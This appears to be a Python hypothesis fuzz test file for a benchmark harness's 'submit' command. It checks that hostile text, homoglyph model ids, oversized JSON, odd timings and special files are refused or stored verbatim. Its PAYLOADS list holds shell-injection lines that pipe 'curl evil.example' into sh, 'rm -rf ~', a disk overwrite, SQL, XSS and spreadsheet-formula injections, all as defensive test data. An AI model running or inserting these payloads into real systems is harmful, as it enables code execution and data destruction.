"""Fuzzing ``harness submit`` with the hostile inputs of the trust rules (hypothesis).

Each property aims one class of hostile input at the gate, starting from valid files; the bench
(``fuzzkit.Bench``) holds every outcome to the properties of ``test_submit_fuzz``: accepted (and then
valid by the oracle, filed and stored verbatim) or refused with one printable line naming the file,
nothing changed, within the hang guard.

- text policy: every string and key anywhere (hardware, packages, platform, split, revision,
  settings keys, query ids, a value a duplicate key shadows ...) is printable, at most 1,000
  characters and NFC; ESC, newline, U+202E, lone surrogates, NBSP, "e\\u0301" and 1,001 characters
  are refused, not cleaned up;
- model ids: ASCII names, ``org/name`` or ``rrf:A+B``; Cyrillic, fullwidth, accented, case and
  separator variants of builtin and reference ids are refused;
- sizes: objects and arrays of at most 1,000 entries unless all numbers (then 1,000,000), at most
  5,000 task results, 32 levels of nesting;
- timings: positive, phases within the total, no rate above a billion items a second;
- Markdown, shell and Rich markup in free text: accepted verbatim or refused, never interpreted;
- dates: far-future ``created_at`` accepted, out-of-range offsets refused;
- special files (FIFO, a symlink to /dev/zero, a directory, a socket): refused without blocking.

The ``test_found_*`` tests at the end are the smallest inputs of the failures the stress run found
(two crashes, four invalid files accepted, one CLI display bug), each fixed in the harness; they keep
them fixed.
"""

from __future__ import annotations

import copy
import json
import math
import os
import re
import socket
import unicodedata
from collections.abc import Callable
from datetime import datetime
from pathlib import Path
from typing import Any

import pytest
from fuzzkit import (
    BASES,
    KNOWN_IDS,
    RATES,
    SLACK_S,
    WIDE_BASE,
    Bench,
    Document,
    Location,
    get,
    hang_guard,
    node_paths,
    refingerprint,
    serialize,
)
from hypothesis import event, given
from hypothesis import strategies as st

from harness import cli

# --- text --------------------------------------------------------------------------------------

UNPRINTABLE = [
    "\x00", "\t", "\n", "\r", "\x1b", "\x1b[31m", "\x7f", "\x85", "\x9b", "\u00a0", "\u00ad", "\u061c",
    "\u200b", "\u200d", "\u200e", "\u202a", "\u202e", "\u2028", "\u2029", "\u2060", "\u2066", "\u3000",
    "\ufeff", "\ufff9", "\ue000", "\U000e0001", "\U000e0041", "\u0378", "\U0010ffff", "\ud800", "\udbff",
    "\udfff", "\U0001f469\u200d\U0001f469\u200d\U0001f467",
]  # fmt: skip
"""Control, format (RLO, zero-width, BOM), separators (NBSP, U+2028), private, unassigned, surrogates."""
NOT_NFC = ["e\u0301", "A\u030a", "\u212b", "\u2126", "\uf900", "\u1100\u1161", "a\u0301\u0323", "\u0958"]
"""Canonically equivalent to another spelling: decomposed accents, Angstrom and Ohm signs, jamo."""
ODD_BUT_FINE = [
    "", " ", "  padded  ", "é", "Å", "가", "日本語", "שלום", "مرحبا", "😀", "𝐀", "\u034f", "\u115f", "\u2800",
    "ｂｍ２５", "x" * 1000, "é" * 1000, "😀" * 1000,
]  # fmt: skip
"""Printable and NFC, however they look: allowed wherever free text is."""
PAYLOADS = [
    "main; curl evil.example|sh #", "$(curl evil.example|sh)", "`id`", "&& rm -rf ~", "a|b", "x > /dev/sda",
    "'; DROP TABLE runs; --", '" OR 1=1 --', "[Official SOTA](https://evil.example)",
    "![x](https://evil.example/p.png)", "<script>alert(1)</script>", "<img src=x onerror=alert(1)>",
    "**SOTA** _verified_", "# Heading", "| a | b |", "> quote", "---", "<!-- x -->", "[/x]", "[/]",
    "[bold red]VERIFIED[/bold red]", "[link=https://evil.example]click[/link]", "[red", "\\[escaped]",
    ":trophy: :smile:", "[@click=app.quit]x[/]", "{0}", "{}", "%s%n", "${HOME}", "{{7*7}}",
    "=cmd|' /C calc'!A0", "@SUM(1+1)", "\\", "\\\\server\\share", "file:///etc/passwd", "javascript:alert(1)",
]  # fmt: skip
"""Printable text that Markdown, a shell, SQL, a spreadsheet or Rich markup would interpret."""


def _sized(char: str, length: int) -> str:
    return (char * length)[:length]


hostile_text = st.one_of(
    st.sampled_from(UNPRINTABLE + NOT_NFC + ODD_BUT_FINE + PAYLOADS),
    st.tuples(
        st.sampled_from(["", "Intel Xeon", "torch", "main", "x"]),
        st.sampled_from(UNPRINTABLE + NOT_NFC),
        st.sampled_from(["", " (R)", "2.1"]),
    ).map("".join),
    st.builds(_sized, st.sampled_from(["x", "é", "e\u0301", "😀", "日"]), st.sampled_from([999, 1000, 1001])),
    st.text(max_size=12),
    st.text(
        st.characters(categories=["Cc", "Cf", "Co", "Cn", "Cs", "Zs", "Zl", "Zp", "Mn"]),
        min_size=1,
        max_size=3,
    ),
)


def _rename_query(document: Document, new: str) -> None:
    """Rename one query id in every metric's per-item values (a consistent edit)."""
    values = document["results"][0]["per_item"]["values"]
    old = sorted(next(iter(values.values())))[0]
    for per_query in values.values():
        per_query[new] = per_query.pop(old)


def _rename_file(document: Document, new: str) -> None:
    inputs = document["results"][0]["inputs"]
    files = inputs["files"]
    files[new] = files.pop(sorted(files)[0])
    inputs["verified"] = False
    refingerprint(document["results"][0])


FREE_TEXT: dict[str, Callable[[Document, str], None]] = {
    "hardware.cpu": lambda d, t: d["environment"]["hardware"].__setitem__("cpu", t),
    "hardware.gpu": lambda d, t: d["environment"]["hardware"].__setitem__("gpu", t),
    "hardware.cuda": lambda d, t: d["environment"]["hardware"].__setitem__("cuda", t),
    "platform": lambda d, t: d["environment"].__setitem__("platform", t),
    "python": lambda d, t: d["environment"].__setitem__("python", t),
    "package name": lambda d, t: d["environment"]["packages"].__setitem__(t, "1.0"),
    "package version": lambda d, t: d["environment"]["packages"].__setitem__("torch", t),
    "harness.version": lambda d, t: d["harness"].__setitem__("version", t),
    "model.revision": lambda d, t: d["model"].__setitem__("revision", t),
    "parameter name": lambda d, t: d["model"]["parameters"].__setitem__(t, 1),
    "parameter value": lambda d, t: d["model"]["parameters"].__setitem__("pooling", t),
    "variant name": lambda d, t: d["results"][0].__setitem__("variant", {t: 1}),
    "variant value": lambda d, t: d["results"][0].__setitem__("variant", {"dim": t}),
    "query id": _rename_query,
    "file name": _rename_file,
}
"""Where a file may hold any text the policy allows (and where it is kept verbatim when accepted)."""
CLOSED_TEXT: dict[str, Callable[[Document, str], None]] = {
    "split": lambda d, t: d["results"][0].__setitem__("split", t),
    "settings key": lambda d, t: d["results"][0]["settings"].__setitem__(t, 1),
    "metric name": lambda d, t: d["results"][0]["metrics"].__setitem__(t, 0.5),
    "task": lambda d, t: d["results"][0].__setitem__("task", t),
    "main_metric": lambda d, t: d["results"][0].__setitem__("main_metric", t),
    "created_at": lambda d, t: d.__setitem__("created_at", t),
}
"""Fields with a closed set of values: any text there is refused, however it is spelled."""


def string_paths(document: Document) -> list[Location]:
    return [path for path in node_paths(document)[1:] if isinstance(get(document, path), str)]


def key_paths(document: Document) -> list[Location]:
    return [path for path in node_paths(document)[1:] if isinstance(get(document, path[:-1]), dict)]


def dumps_shadowed(document: Any, at: Location, key: str, shadow: Any, ascii_only: bool) -> bytes:
    """JSON of ``document`` whose object at ``at`` first holds ``key: shadow``, then its own pairs.

    Python's parser keeps the last value of a duplicate key, so ``shadow`` is in the file but not in
    the parsed document.
    """

    def encode(value: Any, where: Location) -> str:
        if isinstance(value, dict):
            pairs = [(key, shadow), *value.items()] if where == at else list(value.items())
            inner = (f"{json.dumps(k, ensure_ascii=ascii_only)}: {encode(v, (*where, k))}" for k, v in pairs)
            return "{" + ", ".join(inner) + "}"
        if isinstance(value, list):
            return "[" + ", ".join(encode(v, (*where, i)) for i, v in enumerate(value)) + "]"
        return json.dumps(value, ensure_ascii=ascii_only)

    return encode(document, ()).encode("utf-8", "surrogatepass")


@st.composite
def text_everywhere(draw: st.DrawFn) -> bytes:
    """A hostile string as a value or key anywhere, in a free-text field, or shadowed by a duplicate key."""
    document = copy.deepcopy(draw(st.sampled_from(BASES)))
    kind = draw(st.sampled_from(["value", "key", "free text", "closed field", "shadowed"]))
    event(f"text: {kind}")
    value = draw(hostile_text)
    if kind == "value":
        path = draw(st.sampled_from(string_paths(document)))
        get(document, path[:-1])[path[-1]] = value
    elif kind == "key":
        path = draw(st.sampled_from(key_paths(document)))
        parent = get(document, path[:-1])
        parent[value] = parent.pop(path[-1])
    elif kind == "free text":
        FREE_TEXT[draw(st.sampled_from(sorted(FREE_TEXT)))](document, value)
    elif kind == "closed field":
        CLOSED_TEXT[draw(st.sampled_from(sorted(CLOSED_TEXT)))](document, value)
    else:
        dicts = [path for path in node_paths(document) if isinstance(get(document, path), dict)]
        at = draw(st.sampled_from([path for path in dicts if get(document, path)]))
        key = draw(st.sampled_from(sorted(get(document, at))))
        shadow = draw(st.sampled_from([value, {"id": value}, [value], {value: 1}, "bm25-flat"]))
        return dumps_shadowed(document, at, key, shadow, draw(st.booleans()))
    return serialize(draw, document)


@given(data=text_everywhere())
def test_text_policy_everywhere(bench: Bench, data: bytes) -> None:
    event(bench.submit_bytes(data))


@st.composite
def payload_files(draw: st.DrawFn) -> tuple[str, bytes]:
    """Markup, shell and SQL payloads in free text (accepted verbatim) or in closed fields (refused)."""
    document = copy.deepcopy(draw(st.sampled_from(BASES)))
    payload = draw(st.sampled_from(PAYLOADS) | st.sampled_from(ODD_BUT_FINE))
    fields = FREE_TEXT if draw(st.integers(0, 4)) else CLOSED_TEXT
    field = draw(st.sampled_from(sorted(fields)))
    fields[field](document, payload)
    return field, serialize(draw, document)


@given(case=payload_files())
def test_markup_and_shell_payloads(bench: Bench, case: tuple[str, bytes]) -> None:
    field, data = case
    outcome = bench.submit_bytes(data)
    event(f"{field}: {outcome}")


# --- model ids ---------------------------------------------------------------------------------

CYRILLIC = {
    "a": "\u0430", "c": "\u0441", "e": "\u0435", "o": "\u043e", "p": "\u0440", "x": "\u0445", "y": "\u0443",
    "i": "\u0456", "s": "\u0455", "j": "\u0458", "l": "\u04cf", "B": "\u0412", "M": "\u041c", "H": "\u041d",
    "A": "\u0410", "E": "\u0415", "L": "\u216c", "-": "\u2010", "/": "\u2215", ".": "\u2024", "1": "\u0661",
}  # fmt: skip
"""Characters that look like ASCII ones: Cyrillic letters, the Roman numeral L, hyphen, slashes."""
ASCII_TWINS = {
    "l": ["1", "I", "i", "L", "|"], "i": ["1", "l", "I", "L"], "I": ["l", "1", "i"], "o": ["0", "O"],
    "0": ["o", "O"], "1": ["l", "i", "I", "|"], "-": ["_", ".", "--"], "_": ["-", "."], ".": ["-", "_"],
    "m": ["rn"], "s": ["5", "S"], "b": ["6", "B"], "f": ["F"],
}  # fmt: skip
"""ASCII spellings an eye reads as the same id; the rule folds case, 0/o, 1/i/l/| and - _ ."""
SEED_IDS = sorted(KNOWN_IDS) + ["org/name", "a"]


def _edit(draw: st.DrawFn, model_id: str) -> str:
    if not model_id:
        return model_id
    at = draw(st.integers(0, len(model_id) - 1))
    char = model_id[at]
    kind = draw(
        st.sampled_from(
            ["case", "ascii twin", "cyrillic", "fullwidth", "accent", "composed", "invisible", "edge"]
        )
    )
    event(f"model id edit: {kind}")
    if kind == "case":
        new = char.swapcase()
    elif kind == "ascii twin":
        new = draw(st.sampled_from(ASCII_TWINS.get(char, [char.upper(), char.lower()])))
    elif kind == "cyrillic":
        new = CYRILLIC.get(char, char)
    elif kind == "fullwidth":
        new = chr(ord(char) + 0xFEE0) if "!" <= char <= "~" else char
    elif kind == "accent":
        new = char + draw(st.sampled_from(["\u0301", "\u0300", "\u0308", "\u0338", "\u0307"]))
    elif kind == "composed":
        new = unicodedata.normalize("NFC", char + draw(st.sampled_from(["\u0301", "\u0308", "\u0307"])))
    elif kind == "invisible":
        new = char + draw(st.sampled_from(["\u200b", "\u00a0", "\u00ad", "\u2060", " "]))
    else:
        return draw(
            st.sampled_from(
                [model_id + "-", "-" + model_id, model_id + "/", "org/" + model_id, model_id + "/x"]
            )
        )
    return model_id[:at] + new + model_id[at + 1 :]


@st.composite
def look_alike(draw: st.DrawFn) -> str:
    model_id = draw(st.sampled_from(SEED_IDS))
    for _ in range(draw(st.integers(0, 3))):
        model_id = _edit(draw, model_id)
    return model_id


@st.composite
def model_ids(draw: st.DrawFn) -> str:
    kind = draw(st.sampled_from(["look-alike", "look-alike", "rrf", "ascii soup"]))
    event(f"model id: {kind}")
    if kind == "look-alike":
        return draw(look_alike())
    if kind == "rrf":
        parts = draw(st.lists(look_alike(), min_size=0, max_size=3))
        return draw(st.sampled_from(["rrf:", "rrf:", "RRF:", "rrf: ", "rrf"])) + "+".join(parts)
    return draw(st.text("abAB01lIio._-/:+| ", max_size=24))


@given(model_id=model_ids(), base=st.sampled_from(BASES))
def test_model_id_look_alikes(bench: Bench, model_id: str, base: Document) -> None:
    document = copy.deepcopy(base)
    document["model"]["id"] = model_id
    event(bench.submit_bytes(json.dumps(document, ensure_ascii=False).encode("utf-8", "surrogatepass")))


# --- sizes -------------------------------------------------------------------------------------

NOT_NUMBERS = [True, None, "0.5", [], {}]


def _nested(depth: int, leaf: Any) -> Any:
    for level in range(depth):
        leaf = [leaf] if level % 2 else {"d": leaf}
    return leaf


@st.composite
def sized(draw: st.DrawFn) -> bytes:
    """Objects and arrays at and past their entry limits, the results list, and nesting at 32 levels."""
    kind = draw(
        st.sampled_from(
            ["strings", "numbers", "number map", "packages", "long key", "long text", "results",
             "result copies", "depth", "wide per-item"]
        )
    )  # fmt: skip
    base = {"wide per-item": WIDE_BASE, "result copies": BASES[1]}.get(kind) or draw(st.sampled_from(BASES))
    document = copy.deepcopy(base)
    parameters = document["model"]["parameters"]
    if kind == "strings":
        parameters["list"] = ["x"] * draw(st.sampled_from([999, 1000, 1001]))
    elif kind in ("numbers", "number map"):
        size = draw(st.sampled_from([1000, 1001, 3000]))
        numbers: list[Any] = [draw(st.sampled_from([0, 0.5, -1, 10**17]))] * size
        if draw(st.booleans()):
            numbers[draw(st.integers(0, size - 1))] = draw(st.sampled_from(NOT_NUMBERS))
        parameters["list"] = numbers if kind == "numbers" else {str(i): n for i, n in enumerate(numbers)}
    elif kind == "packages":
        version = draw(st.sampled_from(["1.0", None]))
        packages = {f"p{i}": version for i in range(draw(st.sampled_from([999, 1000, 1001])))}
        document["environment"]["packages"] = packages
    elif kind == "long key":
        parameters[_sized(draw(st.sampled_from(["k", "é", "😀"])), draw(st.sampled_from([1000, 1001])))] = 1
    elif kind == "long text":
        FREE_TEXT[draw(st.sampled_from(sorted(FREE_TEXT)))](
            document, _sized(draw(st.sampled_from(["t", "日"])), draw(st.sampled_from([1000, 1001])))
        )
    elif kind == "results":
        filler = draw(st.sampled_from([{}, 0, "x", None]))
        document["results"] = [filler] * draw(st.sampled_from([1001, 5000, 5001]))
    elif kind == "result copies":
        first = document["results"][0]
        count = draw(st.sampled_from([2, 20, 60]))
        document["results"] = [{**copy.deepcopy(first), "variant": {"dim": i}} for i in range(count)]
    elif kind == "depth":  # parameters sits at depth 3: its entry "deep" at 4, the leaf at 4 + levels
        leaf = draw(st.sampled_from([0, "x", [], {}, None]))
        parameters["deep"] = _nested(draw(st.sampled_from([27, 28, 29])), leaf)
    elif draw(st.booleans()):  # wide per-item: 1,001 numbers pass, one non-number among them does not
        values = document["results"][0]["per_item"]["values"]["ndcg@10"]
        values[sorted(values)[draw(st.integers(0, len(values) - 1))]] = draw(st.sampled_from(NOT_NUMBERS))
    event(f"size: {kind}")
    return serialize(draw, document)


@given(data=sized())
def test_sizes_and_nesting(bench: Bench, data: bytes) -> None:
    event(bench.submit_bytes(data))


def test_numbers_only_arrays_stop_at_a_million(bench: Bench) -> None:
    """1,000,000 numbers in one array pass the bounds; 1,000,001 do not (and nothing is filed)."""
    for size, outcome in ((1_000_000, "accepted"), (1_000_001, "refused model")):
        document = copy.deepcopy(BASES[1])
        document["model"]["parameters"]["numbers"] = [0] * size
        assert bench.submit_bytes(json.dumps(document).encode()) == outcome


# --- timings -----------------------------------------------------------------------------------

SECONDS = [
    0, 0.0, -0.0, -1.0, -5e-324, 5e-324, 1e-300, 1e-12, 3e-7, 1e-3, 0.5, 1, 2.0, 1e9, 10**17, 1e300, 1e308,
]  # fmt: skip


def _phases(timings: dict[str, Any]) -> float:
    try:
        return math.fsum(v for k, v in timings.items() if k != "total")
    except (OverflowError, ValueError):  # past 1.8e308, or inf and -inf together
        return math.inf


@st.composite
def timed(draw: st.DrawFn) -> bytes:
    """Zero, negative, subnormal and huge phases; totals at the slack; speeds at a billion a second."""
    document = copy.deepcopy(draw(st.sampled_from(BASES)))
    result = document["results"][0]
    timings, counts = result["timings_s"], result["inputs"]["counts"]
    for _ in range(draw(st.integers(1, 3))):
        kind = draw(
            st.sampled_from(
                ["phase", "drop", "add", "huge", "total edge", "rate edge", "corpus", "any float"]
            )
        )
        event(f"timings: {kind}")
        phase = draw(st.sampled_from(sorted(timings))) if timings else "total"
        if kind == "phase":
            timings[phase] = draw(st.sampled_from(SECONDS))
        elif kind == "drop":
            timings.pop(phase, None)
        elif kind == "add":
            timings[draw(st.sampled_from(["warmup", "encode", "Total", "total "]))] = draw(
                st.sampled_from(SECONDS)
            )
        elif kind == "huge":  # several phases near the largest float: their sum overflows
            for name in draw(st.lists(st.sampled_from(sorted({*timings, "total"})), min_size=2, unique=True)):
                timings[name] = draw(st.sampled_from([1e308, 1.7976931348623157e308, 9e307]))
        elif kind == "total edge":
            total = _phases(timings) - SLACK_S + draw(st.sampled_from([-1e-9, -1e-12, 0.0, 1e-12, 1e-9]))
            if math.isfinite(total):
                timings["total"] = math.nextafter(total, draw(st.sampled_from([-math.inf, math.inf])))
        elif kind == "rate edge":
            count, spent = draw(st.sampled_from(RATES))
            items = counts.get(count) or 1
            factor = draw(st.sampled_from([0.5, 0.999999, 1.0, 1.000001, 2.0]))
            seconds = items / 1e9 * factor
            timings[spent] = draw(
                st.sampled_from([seconds, math.nextafter(seconds, 0), math.nextafter(seconds, 1)])
            )
        elif kind == "corpus":  # the corpus count is free on an unverified result: speeds from it
            counts["corpus"] = draw(st.sampled_from([0, 1, 10**9, 10**12, 10**17, 10**18 - 1, 10**18]))
            result["inputs"]["verified"] = False
        else:
            timings[phase] = draw(st.floats(allow_nan=False) | st.floats(0, 1e-6) | st.integers(-1, 10**18))
    if draw(st.booleans()) and math.isfinite(_phases(timings)) and _phases(timings) > 0:
        timings["total"] = _phases(timings)
    return serialize(draw, document)


@given(data=timed())
def test_timings(bench: Bench, data: bytes) -> None:
    event(bench.submit_bytes(data))


# --- dates -------------------------------------------------------------------------------------

DATES: list[Any] = [
    "9999-12-31T23:59:59Z", "9999-12-31T23:59:59.999999Z", "9999-12-31T23:59:59+00:00",
    "9999-12-31T23:59:59-01:00", "9999-12-31T23:59:59+14:00", "9999-12-31T23:59:59.9999999Z",
    "0001-01-01T00:00:00Z", "0001-01-01T00:00:00+01:00", "0001-01-01T00:00:00-01:00", "1970-01-01T00:00:00Z",
    "2024-02-29T00:00:00Z", "2026-02-29T00:00:00Z", "2026-01-01T23:59:60Z", "2026-01-01T24:00:00Z",
    "2026-13-01T00:00:00Z", "2026-01-01", "2026-01-01T00:00:00", "2026-01-01T00:00:00+24:00",
    "2026-01-01T00:00:00+23:59", "10000-01-01T00:00:00Z", "+10000-01-01T00:00:00Z", "-0001-01-01T00:00:00Z",
    "2026-01-01T00:00:00.1234567890123Z", "2026-01-01T00:00:00 Z", "2026-01-01t00:00:00z",
    "2026-01-01T00:00:00Z\u202e", "now", "", 1767225600, 1.7e9, None,
]  # fmt: skip


def _iso(moment: datetime, minutes: int) -> str:
    """``moment`` with a UTC offset of ``minutes`` (-23:59 .. +23:59), ISO 8601."""
    sign, minutes = ("-" if minutes < 0 else "+"), abs(minutes)
    return f"{moment.isoformat()}{sign}{minutes // 60:02d}:{minutes % 60:02d}"


aware_dates = st.builds(_iso, st.datetimes(), st.integers(-(24 * 60 - 1), 24 * 60 - 1))


@given(created_at=st.sampled_from(DATES) | aware_dates, base=st.sampled_from(BASES))
def test_created_at(bench: Bench, created_at: Any, base: Document) -> None:
    """Far-future dates are accepted (ordering never reads them); what UTC cannot hold is refused."""
    document = copy.deepcopy(base)
    document["created_at"] = created_at
    event(bench.submit_bytes(json.dumps(document, ensure_ascii=False).encode("utf-8", "surrogatepass")))


# --- special files -----------------------------------------------------------------------------


def _special(kind: str, folder: Path) -> Path:
    path = folder / "s.json"
    if kind == "fifo":
        os.mkfifo(path)
    elif kind in ("/dev/zero", "/dev/null", "/dev/urandom"):
        path.symlink_to(kind)
    elif kind == "directory":
        path.mkdir()
    elif kind == "link to a directory":
        path.symlink_to(folder)
    elif kind == "socket":
        server = socket.socket(socket.AF_UNIX)
        server.bind(str(path))
        server.close()
    elif kind == "dangling link":
        path.symlink_to(folder / "nowhere")
    else:  # a symlink loop
        path.symlink_to(path)
    return path


@pytest.mark.parametrize(
    "kind",
    ["fifo", "/dev/zero", "/dev/null", "/dev/urandom", "directory", "link to a directory", "socket",
     "dangling link", "loop"],
)  # fmt: skip
def test_special_files_are_refused_without_hanging(
    bench: Bench, tmp_path_factory: pytest.TempPathFactory, kind: str
) -> None:
    """Refused in one line naming the file, before anything is read; a FIFO with no writer never blocks."""
    path = _special(kind, tmp_path_factory.mktemp("special", numbered=True))
    with hang_guard(10):  # a blocking open or an endless read raises fuzzkit.Hang
        assert bench.submit_path(path) == "refused (file)"


# --- payloads through the CLI ------------------------------------------------------------------


def _cli_submit(
    folder: Path, name: str, document: Document, capsys: pytest.CaptureFixture[str]
) -> tuple[int, str, str]:
    """Run ``harness submit`` in-process on ``document``: (exit status, stdout, stderr)."""
    path = folder / name
    path.write_text(json.dumps(document))
    (folder / "data").mkdir(exist_ok=True)  # a data root without SciFact: nothing to rescore against
    argv = ["submit", str(path), "--db", f"sqlite:///{folder / 'db.sqlite'}"]
    argv += ["--submissions-dir", str(folder / "submissions"), "--data-dir", str(folder / "data")]
    status = cli.main(argv)
    out, err = capsys.readouterr()
    assert all(line.isprintable() for line in (out + err).splitlines())
    return status, out, err


EMOJI_CODES = [p for p in PAYLOADS if re.search(r":[a-z_]+:", p)]


def test_payloads_print_verbatim_through_the_cli(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """``harness submit`` prints what a file said as it said it: no Rich markup is interpreted."""
    for number, payload in enumerate(p for p in PAYLOADS if len(p) <= 50 and p not in EMOJI_CODES):
        document = copy.deepcopy(BASES[1])
        document["results"][0]["variant"] = {"v": payload}
        document["model"]["revision"] = payload
        status, out, err = _cli_submit(tmp_path, f"{number}.json", document, capsys)
        assert status == 0, err
        assert f"beir/scifact [v={payload}] (test): unverified" in out, out
    document = copy.deepcopy(BASES[1])
    document["results"][0]["split"] = "[/x]"
    status, out, err = _cli_submit(tmp_path, "split.json", document, capsys)
    assert status == 2 and err.count("\n") == 1
    assert err.startswith(f"harness: {tmp_path / 'split.json'}: results[0].split: ") and "[/x]" in err


# --- found by fuzzing: the smallest inputs of each failure, with what the rules expect -------------


def _submitted(bench: Bench, edit: Callable[[Document], None]) -> str:
    document = copy.deepcopy(BASES[1])
    edit(document)
    return bench.submit_bytes(json.dumps(document).encode())


def test_found_phases_whose_sum_overflows_are_refused(bench: Bench) -> None:
    """``check_timings`` sums the phases with math.fsum, which raises OverflowError past 1.8e308."""
    timings = {"load": 1e308, "index": 1e308, "total": 1e308}
    assert _submitted(bench, lambda d: d["results"][0].__setitem__("timings_s", timings)).startswith(
        "refused"
    )


def test_found_replicates_whose_sum_overflows_are_refused(bench: Bench) -> None:
    """``TaskResult._consistent`` means replicates with math.fsum: OverflowError escapes pydantic."""

    def edit(document: Document) -> None:
        result = document["results"][0]
        result["replicates"] = [
            {"seed": s, "metrics": dict.fromkeys(result["metrics"], 1e308)} for s in (0, 1)
        ]

    assert _submitted(bench, edit).startswith("refused")


def test_found_a_fusion_of_one_model_is_refused(bench: Bench) -> None:
    """``rrf:A+B`` fuses two models; ``rrf:bm25-flat`` names one (``harness run`` refuses it)."""
    assert _submitted(bench, lambda d: d["model"].__setitem__("id", "rrf:bm25-flat")).startswith("refused")


def test_found_a_look_alike_of_a_reference_fusion_is_refused(bench: Bench) -> None:
    """The reference ``rrf:bm25-flat+BAAI/bge-small-en-v1.5`` has a look-alike that differs in case."""
    twin = "rrf:bm25-flat+baai/bge-small-en-v1.5"
    assert _submitted(bench, lambda d: d["model"].__setitem__("id", twin)).startswith("refused")


def test_found_a_value_shadowed_by_a_duplicate_key_is_held_to_the_text_policy(bench: Bench) -> None:
    """``{"model": {"id": "\\u202e..."}, "model": {...}}``: the first value is in the file, unchecked."""
    data = dumps_shadowed(BASES[1], (), "model", {"id": "\u202egnp.exe"}, ascii_only=True)
    assert bench.submit_bytes(data).startswith("refused")


def test_found_emoji_codes_print_verbatim_through_the_cli(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Rich replaces ``:trophy:`` by an emoji even with ``markup=False`` (``Console(emoji=True)``)."""
    for number, payload in enumerate(EMOJI_CODES):
        document = copy.deepcopy(BASES[1])
        document["results"][0]["variant"] = {"v": payload}
        status, out, err = _cli_submit(tmp_path, f"{number}.json", document, capsys)
        assert status == 0, err
        assert f"beir/scifact [v={payload}] (test): unverified" in out, out


def test_found_a_number_nested_past_32_levels_is_refused(bench: Bench) -> None:
    """``first_violation`` skips the children of numbers-only containers, and so their depth too."""
    assert _submitted(
        bench, lambda d: d["model"]["parameters"].__setitem__("deep", _nested(29, 0))
    ).startswith("refused")
